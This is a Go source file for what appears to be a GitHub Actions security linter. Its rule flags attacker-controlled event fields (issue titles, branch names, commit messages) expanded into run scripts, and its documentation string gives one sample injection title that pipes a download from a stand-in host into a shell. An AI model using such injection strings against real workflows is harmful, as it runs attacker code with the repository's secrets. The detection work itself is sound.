package gha

import (
	"regexp"
	"strings"

	"github.com/mlgate/mlgate/finding"
	"github.com/mlgate/mlgate/pipeline"
)

// TemplateInjection reports attacker-controlled context expanded into
// scripts.
var TemplateInjection = pipeline.Register(finding.Rule{
	ID:       "pipeline/gha-template-injection",
	Title:    "Attacker-controlled context expanded into a script",
	Severity: finding.High,
	Doc: "`${{ }}` expressions are substituted into `run:` scripts (and actions/github-script's `script:`) " +
		"before the shell sees them, so a value an outsider chooses becomes code: issue and pull request " +
		"titles and bodies, comment and review bodies, branch names (github.head_ref, " +
		"pull_request.head.ref, workflow_run.head_branch), commit messages and author names, discussion " +
		"titles. A title such as `\"; curl evil.sh | sh; #` runs with the job's token and secrets. Reported " +
		"when the job can run for an event that carries the value: critical under triggers that hand out " +
		"secrets (pull_request_target, issue_comment, issues, discussion, workflow_run), high otherwise; " +
		"medium in reusable workflows and actions, whose caller decides.",
	Remediation: "Pass the value through an environment variable and quote it in the shell: " +
		"`env: TITLE: ${{ github.event.issue.title }}` and `echo \"$TITLE\"`.",
}, func(p *pipeline.Pass) {
	w := workflowOf(p)
	if w == nil {
		return
	}
	for _, j := range w.Jobs {
		a := j.info
		for _, e := range j.Exprs {
			script := e.Where == "run"
			if !script && e.Where == "with script" {
				if st := j.stepAt(e.Step); st != nil && actionName(st.Uses) == "actions/github-script" {
					script = true
				}
			}
			if !script || !strings.Contains(e.Inner, "github.") && !strings.Contains(e.Inner, "GITHUB.") && !strings.Contains(strings.ToLower(e.Inner), "github.") {
				continue
			}
			for _, m := range dangerousContext.FindAllString(e.Inner, 5) {
				ctx := strings.ToLower(m)
				evs := contextEvents(ctx)
				sev, reach := injectionSeverity(w, a, evs)
				if sev < 0 {
					continue
				}
				report(p, j, e.Pos, sev, "`${{ "+e.Inner+" }}` expands "+m+", which outsiders control, into a script"+reach+
					"; it can inject shell commands.", "inject "+ctx)
			}
		}
	}
})

// dangerousContext matches the context paths outsiders can set.
var dangerousContext = regexp.MustCompile(`(?i)\b(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|pages\.[^\s)]*\.page_name|head_commit\.(message|author\.(email|name))|commits\.[^\s)]*\.(message|author\.(email|name))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name))|pull_requests\.[^\s)]*\.head\.ref))|github\.head_ref)\b`)

// contextEvents returns the events whose payload carries ctx.
func contextEvents(ctx string) []string {
	switch {
	case strings.HasPrefix(ctx, "github.event.issue."):
		return []string{"issues", "issue_comment"}
	case strings.HasPrefix(ctx, "github.event.pull_request."), ctx == "github.head_ref":
		return []string{"pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"}
	case strings.HasPrefix(ctx, "github.event.comment."):
		return []string{"issue_comment", "pull_request_review_comment", "discussion_comment", "commit_comment"}
	case strings.HasPrefix(ctx, "github.event.review"):
		return []string{"pull_request_review", "pull_request_review_comment"}
	case strings.HasPrefix(ctx, "github.event.discussion."):
		return []string{"discussion", "discussion_comment"}
	case strings.HasPrefix(ctx, "github.event.pages"):
		return []string{"gollum"}
	case strings.HasPrefix(ctx, "github.event.head_commit"), strings.HasPrefix(ctx, "github.event.commits"):
		return []string{"push"}
	case strings.HasPrefix(ctx, "github.event.workflow_run"):
		return []string{"workflow_run"}
	}
	return nil
}

// injectionSeverity decides the severity for a job that can run for the
// events evs carry; -1 when no event of the job carries the value.
func injectionSeverity(w *Workflow, a *Analysis, evs []string) (finding.Severity, string) {
	if w.Action {
		return finding.Medium, " (in an action; its callers decide where the value comes from)"
	}
	if a == nil {
		return -1, ""
	}
	called := false
	for _, ev := range a.Events {
		if ev == "workflow_call" {
			called = true
		}
		for _, x := range evs {
			if ev == x {
				if privilegedEvents[ev] {
					return finding.Critical, " in a job triggered by " + ev + ", which has the repository's secrets"
				}
			}
		}
	}
	for _, ev := range a.Events {
		for _, x := range evs {
			if ev == x {
				return finding.High, " in a job triggered by " + ev
			}
		}
	}
	if called {
		return finding.Medium, " in a reusable workflow (the caller's event decides)"
	}
	return -1, ""
}
